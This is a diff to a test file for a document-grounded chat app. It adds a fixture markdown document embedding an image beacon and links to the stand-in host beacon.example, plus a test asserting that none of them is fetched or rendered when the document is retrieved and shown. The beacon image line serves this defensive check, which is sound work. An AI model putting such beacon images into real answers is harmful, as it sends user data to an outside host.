@@ -34,6 +34,21 @@ QUESTION = "I'm a payroll clerk. What's my next problem to solve?"
 TITLE = "What's your next problem to solve?"
 INDEX_READY = "Knowledge index ready"
 NOTHING_YET = "Nothing yet: tell me about your work."
+# A corpus entry with an image and links to an outside host: rendered as is, the browser would
+# fetch the image (a beacon that can carry data out) the moment the answer or its sources show.
+BEACON_DOC = {
+    "principles/quarry-guide.md": """---
+id: principle/quarry-guide
+kind: principle
+title: Quarry guide
+---
+# Quarry guide
+
+## Summary
+Quarry surveyors grow by owning the blast-plan reviews. ![chart](https://beacon.example/p.png?who=you)
+Read [the full guide](https://beacon.example/guide) or <https://beacon.example/a> and https://beacon.example/b.
+"""
+}
 
 
 @dataclass
@@ -52,7 +67,7 @@ def first_visit(serve_app, browser, tmp_path_factory) -> FirstVisit:
     the tests after it get quick pages, and the start-up test can look at what it showed."""
     root = tmp_path_factory.mktemp("browser-data")
     knowledge = root / "knowledge"
-    for rel, text in SAMPLE_DOCS.items():
+    for rel, text in {**SAMPLE_DOCS, **BEACON_DOC}.items():
         (knowledge / rel).parent.mkdir(parents=True, exist_ok=True)
         (knowledge / rel).write_text(text, encoding="utf-8")
     data_dir = root / "data"
@@ -179,3 +194,16 @@ def test_no_request_leaves_the_app_origin_during_a_chat_turn(page, page_requests
     assert page.requests is page_requests
     assert loaded > 0 and any(url.endswith("/_stcore/stream") for url in page_requests)
     assert off_origin(page_requests, app_url) == []
+
+
+def test_an_image_or_link_in_a_document_is_never_fetched_or_linked(page, page_requests, app_url):
+    open_app(page, app_url)
+    reply = send_chat(page, "What does the quarry guide say about blast-plan reviews for surveyors?")
+    shown = message_text(reply) + sources_text(reply)
+    page.wait_for_load_state("networkidle")
+    assert "Quarry guide" in shown  # the document was retrieved and shown
+    assert off_origin(page_requests, app_url) == []
+    assert not [u for u in page_requests if "beacon.example" in u]
+    main = page.locator('[data-testid="stMain"]')
+    assert main.locator('img[src*="beacon.example"]').count() == 0
+    assert main.locator('a[href*="beacon.example"]').count() == 0
